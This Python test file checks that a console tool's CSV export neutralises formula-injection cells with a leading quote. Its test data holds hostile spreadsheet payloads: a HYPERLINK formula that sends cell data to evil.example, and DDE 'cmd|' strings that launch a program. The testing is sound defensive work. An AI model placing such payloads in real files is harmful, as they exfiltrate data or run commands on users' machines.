"""CSV formula injection (issue 13, item 11): ``export --format csv`` neutralises every text cell that
starts with = + - @ TAB or CR by a leading single quote (OWASP); numbers stay numbers and the JSON-lines
export stays exact. A real SQLite store, the real command."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest

from console.cli.feed import main
from console.domain.csv_safety import FORMULA_START, formula_start, neutralise
from console.domain.event import Action
from console.domain.ingest import IngestBatch, QuarantineRecord
from console.net.protocol import event_from_dict
from console.services.export import export
from console.store import open_store
from tests.net.helpers import event_obj

HOSTILE = {
    "title": "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")",
    "description": "+cmd|' /C calc'!A0",
    "address": "-2+3+cmd|' /C calc'!A0",
    "reporter": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def number(cell: str) -> bool:
    """A numeric cell (lat -33.86): a spreadsheet reads it as the number it is."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _fill(db: str) -> None:
    ev = event_from_dict(event_obj(
        1, title=HOSTILE["title"], description=HOSTILE["description"],
        location={"lat": -33.86, "lon": 151.2, "address": HOSTILE["address"]},
        reporter={"name": HOSTILE["reporter"], "phone": "+8613800000000"},
    ), seq=1)
    tab = event_from_dict(event_obj(2, title=HOSTILE["tab"], description=HOSTILE["cr"]), seq=2)
    plain = event_from_dict(event_obj(3, title="井盖缺失 = 危险"), seq=3)  # "=" inside: not a formula
    at = datetime(2026, 11, 22, 2, tzinfo=UTC)
    store = open_store(db)
    try:
        store.commit_ingest(IngestBatch(
            last_seq=5, events=[ev, tab, plain],
            quarantined=[QuarantineRecord(raw="=cmd|' /C calc'!A0", reason="not JSON", received_at=at, seq=5)],
        ), "seat")
        store.actions.append_many([Action(event_id="ev-1", at=at, kind="note", actor="-值班员", seat="seat-1",
                                          note="=1+1")])
    finally:
        store.close()


def _csv(db: str, what: str) -> list[dict[str, str]]:
    out = io.StringIO()
    export(db, what, "csv", out)
    return list(csv.DictReader(io.StringIO(out.getvalue())))


def test_events_csv_cells_are_neutralised(tmp_path):
    db = f"sqlite:///{tmp_path}/c.db"
    _fill(db)
    rows = {r["id"]: r for r in _csv(db, "events")}
    ev1, ev2, ev3 = rows["ev-1"], rows["ev-2"], rows["ev-3"]
    assert ev1["title"] == "'" + HOSTILE["title"]
    assert ev1["description"] == "'" + HOSTILE["description"]
    assert ev1["address"] == "'" + HOSTILE["address"]
    assert ev1["reporter_name"] == "'" + HOSTILE["reporter"]
    assert ev1["reporter_phone"] == "'+8613800000000"  # OWASP's rule has no exception for phone numbers
    assert ev2["title"] == "'" + HOSTILE["tab"]
    assert ev2["description"] == "'" + HOSTILE["cr"]
    assert ev1["lat"] == "-33.86"  # a number, not text: unchanged
    assert ev3["title"] == "井盖缺失 = 危险"
    for row in rows.values():  # no text cell of the file starts a formula
        assert not any(formula_start(v) for v in row.values() if v and not number(v)), row


def test_actions_and_quarantine_csv_are_neutralised(tmp_path):
    db = f"sqlite:///{tmp_path}/c.db"
    _fill(db)
    actions = _csv(db, "actions")
    note = next(r for r in actions if r["kind"] == "note")
    assert (note["note"], note["actor"]) == ("'=1+1", "'-值班员")
    assert not any(formula_start(v) for r in actions for v in r.values() if v)
    (q,) = _csv(db, "quarantine")
    assert q["raw"] == "'=cmd|' /C calc'!A0"


def test_jsonl_export_stays_exact(tmp_path):
    db = f"sqlite:///{tmp_path}/c.db"
    _fill(db)
    out = io.StringIO()
    export(db, "events", "jsonl", out)
    recs = {r["id"]: r for r in map(json.loads, out.getvalue().splitlines())}
    assert recs["ev-1"]["title"] == HOSTILE["title"]
    assert recs["ev-2"]["title"] == HOSTILE["tab"]


def test_export_command_writes_a_safe_file(tmp_path, capsys):
    db = tmp_path / "c.db"
    _fill(f"sqlite:///{db}")
    out = tmp_path / "events.csv"
    assert main(["export", "--db", str(db), "--what", "events", "--format", "csv", "--out", str(out)]) == 0
    with out.open(encoding="utf-8", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert "'" + HOSTILE["title"] in cells
    assert not any(formula_start(c) for c in cells if c and not number(c))


@pytest.mark.parametrize("start", FORMULA_START)
def test_neutralise_each_start(start):
    assert neutralise(f"{start}x") == f"'{start}x"
    assert neutralise(f"a{start}x") == f"a{start}x"
    assert neutralise(-1.5) == -1.5
    assert neutralise(None) is None
